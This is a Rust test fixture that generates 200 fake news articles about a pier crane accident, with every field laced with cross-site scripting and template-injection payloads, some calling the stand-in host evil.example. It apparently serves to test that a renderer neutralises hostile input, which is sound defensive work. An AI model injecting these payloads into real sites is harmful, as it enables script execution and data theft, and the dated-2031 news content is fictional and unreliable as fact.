//! A corpus that wishes its readers ill: two hundred ways to become more than text, each in every field of a document.

use serde_json::json;

/// What stands around what is to run, so that it ends whatever it stands in: nothing, an attribute, a script, a comment,
/// a title, a style, a template of JavaScript, the ends of lines.
const AROUND: [(&str, &str); 10] = [
    ("", ""),
    ("\">", ""),
    ("'>", "<!--"),
    ("</script>", "<script>"),
    ("-->", "<!--"),
    ("</title></head><body>", ""),
    ("</style></svg></math></template></noscript>", ""),
    ("`${", "}`"),
    ("\r\n\r\n", "\u{2028}"),
    ("]]>&gt;&quot;&#34;&#x3e;", "%3E"),
];

/// What is to run. It would set `hit`, or ask for something of `evil.example`.
const RUN: [&str; 20] = [
    "<script>hit=1</script>",
    "<img src=x onerror=hit=1>",
    "<svg onload=hit=1>",
    "<svg><animate onbegin=hit=1 attributeName=x dur=1s>",
    "<details open ontoggle=hit=1>",
    "<iframe srcdoc=\"<script>parent.hit=1</script>\"></iframe>",
    "<object data=\"http://evil.example/o\"></object>",
    "<embed src=\"javascript:hit=1\">",
    "<link rel=stylesheet href=\"http://evil.example/s.css\">",
    "<base href=\"http://evil.example/\">",
    "<meta http-equiv=refresh content=\"0;url=http://evil.example/m\">",
    "<form action=\"http://evil.example/f\"><input autofocus onfocus=hit=1></form>",
    "<a href=\"javascript:hit=1\">press</a>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=hit=1>",
    "<template shadowrootmode=open><script>hit=1</script></template>",
    "<style>@import 'http://evil.example/i.css'; * { background: url(http://evil.example/b) }</style>",
    "\" autofocus onfocus=\"hit=1\" style=\"background:url(http://evil.example/a)",
    "' onmouseover='hit=1' x='",
    "${hit=1}{{constructor.constructor('hit=1')()}}",
    "javascript:hit=1",
];

/// Addresses that are none of the web.
const ADDRESSES: [&str; 6] = [
    "javascript:hit=1//https://a.example",
    "JaVaScRiPt:hit=1",
    "data:text/html,<script>hit=1</script>",
    "vbscript:hit=1",
    "//evil.example/a",
    "\u{1}javascript://a%0ahit=1",
];

/// The corpus as JSON lines: documents that mostly tell the same, so that there are claims, differences and people too.
pub(crate) fn corpus() -> String {
    let payloads = AROUND.iter().flat_map(|(before, after)| RUN.map(|run| format!("{before}{run}{after}")));
    let mut lines = String::new();
    for (number, payload) in payloads.enumerate() {
        let injured = 10 + number % 3;
        let day = 1 + number % 28;
        let text = format!(
            "The minister Ana {payload} Ruiz said on {day} March 2031 that {injured} workers were hurt at the pier.\n\n\
             “The pier {payload} will open by the end of the year,” Ana Ruiz said.\n\n{payload}\n\n\
             The Harbour {payload} Authority denied that the crane had been inspected on 2 March 2031."
        );
        let document = json!({
            "id": format!("{number} {payload}"),
            "title": format!("Crane falls {payload}"),
            "outlet": format!("Outlet {} {payload}", number % 7),
            "authors": [payload],
            "published": format!("2031-03-{day:02}"),
            "url": if number % 4 == 0 { ADDRESSES[number / 4 % ADDRESSES.len()].to_owned() } else { payload.clone() },
            "kind": payload,
            "text": text,
        });
        lines.push_str(&format!("{document}\n"));
    }
    lines
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    #[test]
    fn there_are_two_hundred_ways_each_its_own() {
        let corpus = super::corpus();
        let titles: BTreeSet<String> = corpus
            .lines()
            .map(|line| serde_json::from_str::<serde_json::Value>(line).expect("JSON")["title"].to_string())
            .collect();
        assert_eq!(titles.len(), 200);
    }
}
